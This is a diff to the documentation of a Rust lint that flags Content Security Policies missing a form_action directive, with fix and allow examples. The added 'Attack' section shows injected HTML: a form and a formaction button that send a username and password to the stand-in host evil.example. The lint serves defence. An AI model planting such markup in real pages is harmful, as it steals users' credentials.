@@ -6,12 +6,21 @@ use crate::policy::SecurityPolicy;
 lint! {
     /// # What it does
     ///
-    /// Looks for an enforced policy that restricts what a page loads, and not where it sends forms.
+    /// Looks for an enforced policy that restricts what a page loads, but not where its forms are sent.
     ///
     /// # Why it matters
     ///
-    /// An injected form, or an injected `formaction` on a button that is there already, sends what the user types to
-    /// another site; a password manager fills it in. That takes no script, and `default_src` does not cover it.
+    /// To steal what users type, an attacker needs no script: a form is enough, and password managers fill it in.
+    /// `default_src` does not cover where forms are sent.
+    ///
+    /// # Attack
+    ///
+    /// The attacker injects a form, or a button that changes where an existing form is sent:
+    ///
+    /// ```html
+    /// <form action="https://evil.example/"><input name="user"><input type="password" name="password"></form>
+    /// <button form="login" formaction="https://evil.example/">Sign in</button>
+    /// ```
     ///
     /// # Example
     ///
@@ -19,18 +28,30 @@ lint! {
     /// content_security_policy: { default_src: self, base_uri: none },
     /// ```
     ///
-    /// # Fine
+    /// # Fix
+    ///
+    /// Write `self`, and the hosts of others that the site sends forms to. Chromium and Safari check redirects of a
+    /// form too, so list where they lead.
     ///
     /// ```text
     /// content_security_policy: { default_src: self, base_uri: none, form_action: self },
     /// ```
     ///
-    /// A page without forms says `form_action: none`. Under a `sandbox` that does not say `allow_forms`, none is sent
-    /// anyway.
+    /// A page without forms writes `form_action: none`. A `sandbox` without `allow_forms` needs no `form_action`.
+    ///
+    /// # Allow
+    ///
+    /// ```text
+    /// #[allow(csp_missing_form_action, reason = "sign-in redirects to the identity provider of each customer")]
+    /// content_security_policy: { … },
+    /// ```
+    ///
+    /// Reasonable where the targets cannot be listed.
     ///
     /// # References
     ///
-    /// - [CSP3, section 6.4.1](https://w3c.github.io/webappsec-csp/#directive-form-action)
+    /// - [CSP3, section 6.4.1, form-action](https://w3c.github.io/webappsec-csp/#directive-form-action)
+    /// - [HTML, formaction](https://html.spec.whatwg.org/multipage/form-control-infrastructure.html#attr-fs-formaction)
     Warn "forms may be sent anywhere" missing, check
 }
 
